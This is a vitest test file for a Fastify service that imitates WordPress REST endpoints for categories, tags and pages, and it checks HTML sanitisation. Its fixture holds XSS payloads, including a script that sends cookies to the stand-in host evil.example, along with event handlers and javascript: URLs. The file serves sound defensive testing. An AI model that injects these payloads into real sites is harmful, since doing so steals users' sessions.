import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test-app';
import { addPost, addTerm } from './content.testing';

// decision 0011: /wp-json/wp/v2/categories, /tags and /pages, and HTML sanitised on output.

let t: TestApp;
const ids = { help: 0, installation: 0, tagCad: 0, tagDraftOnly: 0, tagUnused: 0, tagPicture: 0 };
const ORIGIN = 'https://www.example.cn';

const HOSTILE_HTML = [
  '<h2>步骤</h2>',
  '<p onclick="steal()">点击<strong>文件</strong>菜单</p>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="x" onerror="alert(1)" alt="截图">',
  '<a href="javascript:alert(2)">打开</a>',
  '<a href="https://other.example/manual">手册</a>',
  `<a href="${ORIGIN}/1001.html">上一篇</a>`,
  '<iframe src="https://evil.example/"></iframe>',
  '<style>body{display:none}</style>',
  '<img src="javascript:alert(3)">',
  '<table><tr><td colspan="2" style="color:red">LINE</td></tr></table>',
].join('');

beforeAll(async () => {
  t = await createTestApp({ PUBLIC_ORIGIN: ORIGIN });
  const db = t.database.db;
  ids.help = await addTerm(db, { taxonomy: 'category', slug: 'help', name: '软件帮助', description: '帮助文档' });
  ids.installation = await addTerm(db, { taxonomy: 'category', slug: 'installation', name: '下载安装', parentId: ids.help });
  ids.tagCad = await addTerm(db, { taxonomy: 'post_tag', slug: 'cad', name: 'CAD' });
  ids.tagDraftOnly = await addTerm(db, { taxonomy: 'post_tag', slug: 'draft-only', name: '草稿标签' });
  ids.tagUnused = await addTerm(db, { taxonomy: 'post_tag', slug: 'unused', name: '未用' });
  ids.tagPicture = await addTerm(db, { taxonomy: 'post_tag', slug: 'floor-plan', name: '平面图' });
  await addPost(db, { id: 1, title: '安装 & 激活 <步骤>', date: '2026-02-01T08:00:00', termIds: [ids.installation, ids.tagCad], content: HOSTILE_HTML });
  await addPost(db, { id: 2, title: '第二篇', date: '2026-02-02T08:00:00', termIds: [ids.installation, ids.tagCad] });
  await addPost(db, { id: 3, title: '草稿', status: 'draft', date: '2026-02-03T08:00:00', termIds: [ids.installation, ids.tagDraftOnly] });
  await addPost(db, { id: 4, type: 'dailypic', title: '别墅平面图', date: '2026-02-04T08:00:00', termIds: [ids.tagPicture, ids.tagCad] });
  await addPost(db, { id: 900, type: 'page', slug: 'privacy', title: '隐私政策', date: '2026-01-01T00:00:00', content: '<h2>个人信息</h2><p>我们收集的信息</p>' });
});

afterAll(async () => {
  await t.close();
});

function get(url: string): Promise<LightMyRequestResponse> {
  return t.app.inject({ method: 'GET', url, headers: { host: 'api.test' } });
}

type Term = { id: number; name: string; slug: string; count: number; taxonomy: string; parent?: number; link: string };

describe('GET /wp-json/wp/v2/categories and /tags', () => {
  it('answers categories in the WordPress shape with counts of published posts', async () => {
    const response = await get('/wp-json/wp/v2/categories');
    expect(response.statusCode).toBe(200);
    expect(response.headers['x-wp-total']).toBe('2');
    const categories = response.json<Term[]>();
    // Ordered by name, ascending, as WordPress does by default.
    expect(categories.map((term) => term.slug)).toEqual(['installation', 'help']);
    expect(categories[0]).toMatchObject({
      id: ids.installation,
      count: 2,
      description: '',
      link: `${ORIGIN}/help.html`,
      name: '下载安装',
      slug: 'installation',
      taxonomy: 'category',
      parent: ids.help,
      meta: [],
    });
    expect(categories[1]).toMatchObject({ id: ids.help, count: 0, parent: 0, description: '帮助文档' });
  });

  it('counts posts and daily pictures per tag, and hides empty tags on request', async () => {
    const all = (await get('/wp-json/wp/v2/tags?orderby=count&order=desc')).json<Term[]>();
    expect(all.map((term) => [term.slug, term.count])).toEqual([['cad', 3], ['floor-plan', 1], ['unused', 0], ['draft-only', 0]]);
    expect(all[0]).not.toHaveProperty('parent');
    expect(all[0]?.link).toBe(`${ORIGIN}/tag/${ids.tagCad}`);
    const used = await get('/wp-json/wp/v2/tags?hide_empty=true');
    expect(used.json<Term[]>().map((term) => term.slug).sort()).toEqual(['cad', 'floor-plan']);
    expect(used.headers['x-wp-total']).toBe('2');
  });

  it('finds a term by slug, always as a list, and by id', async () => {
    expect((await get('/wp-json/wp/v2/tags/?slug=cad')).json<Term[]>().map((term) => term.id)).toEqual([ids.tagCad]);
    expect((await get('/wp-json/wp/v2/categories/?slug=nothing')).json()).toEqual([]);
    const one = await get(`/wp-json/wp/v2/categories/${ids.help}`);
    expect(one.json<Term>()).toMatchObject({ id: ids.help, slug: 'help', taxonomy: 'category' });
  });

  it('pages terms with headers, and answers an empty page past the end as WordPress does', async () => {
    const first = await get('/wp-json/wp/v2/tags?per_page=3');
    expect(first.json<Term[]>()).toHaveLength(3);
    expect(first.headers['x-wp-totalpages']).toBe('2');
    expect(first.headers['link']).toBe('<http://api.test/wp-json/wp/v2/tags?per_page=3&page=2>; rel="next"');
    const beyond = await get('/wp-json/wp/v2/tags?per_page=3&page=5');
    expect(beyond.statusCode).toBe(200);
    expect(beyond.json()).toEqual([]);
  });

  it('answers 404 rest_term_invalid for an unknown term or a term of the other taxonomy', async () => {
    for (const path of ['/wp-json/wp/v2/tags/424242', `/wp-json/wp/v2/tags/${ids.help}`, `/wp-json/wp/v2/categories/${ids.tagCad}`]) {
      const response = await get(path);
      expect(response.statusCode, path).toBe(404);
      expect(response.json()).toEqual({ code: 'rest_term_invalid', message: 'Term does not exist.', data: { status: 404 } });
    }
  });

  it('refuses bad term parameters with rest_invalid_param', async () => {
    const response = await get('/wp-json/wp/v2/tags?per_page=101&hide_empty=maybe&orderby=popularity');
    expect(response.statusCode).toBe(400);
    expect(response.json<{ data: { params: Record<string, string> } }>().data.params).toEqual({
      per_page: 'per_page must be between 1 (inclusive) and 100 (inclusive)',
      hide_empty: 'hide_empty is not of type boolean.',
      orderby: 'orderby is not one of id, include, name, slug, count, and description.',
    });
  });
});

describe('GET /wp-json/wp/v2/pages', () => {
  it('answers the legal pages by slug and by id, and no posts', async () => {
    const list = (await get('/wp-json/wp/v2/pages?slug=privacy')).json<Array<Record<string, unknown>>>();
    expect(list).toHaveLength(1);
    expect(list[0]).toMatchObject({ id: 900, type: 'page', link: `${ORIGIN}/privacy.html`, content: { rendered: '<h2>个人信息</h2><p>我们收集的信息</p>' } });
    expect((await get('/wp-json/wp/v2/pages/900')).statusCode).toBe(200);
    expect((await get('/wp-json/wp/v2/pages/1')).json<{ code: string }>().code).toBe('rest_post_invalid_id');
  });
});

describe('HTML sanitised on output', () => {
  it('renders a post with scripts, handlers and javascript: URLs inert, keeping the article markup', async () => {
    const post = (await get('/wp-json/wp/v2/posts/1')).json<{ title: { rendered: string }; content: { rendered: string } }>();
    const html = post.content.rendered;
    expect(html).not.toMatch(/<script|<style|<iframe|onerror|onclick|javascript:|style=|evil\.example/i);
    expect(html).toContain('<h2>步骤</h2>');
    expect(html).toContain('<p>点击<strong>文件</strong>菜单</p>');
    expect(html).toContain('<img src="x" alt="截图" />');
    expect(html).toContain('<a>打开</a>');
    expect(html).toContain('<a href="https://other.example/manual" rel="noopener">手册</a>');
    expect(html).toContain(`<a href="${ORIGIN}/1001.html">上一篇</a>`);
    expect(html).toContain('<td colspan="2">LINE</td>');
    expect(post.title.rendered).toBe('安装 &amp; 激活 &lt;步骤&gt;');
  });
});
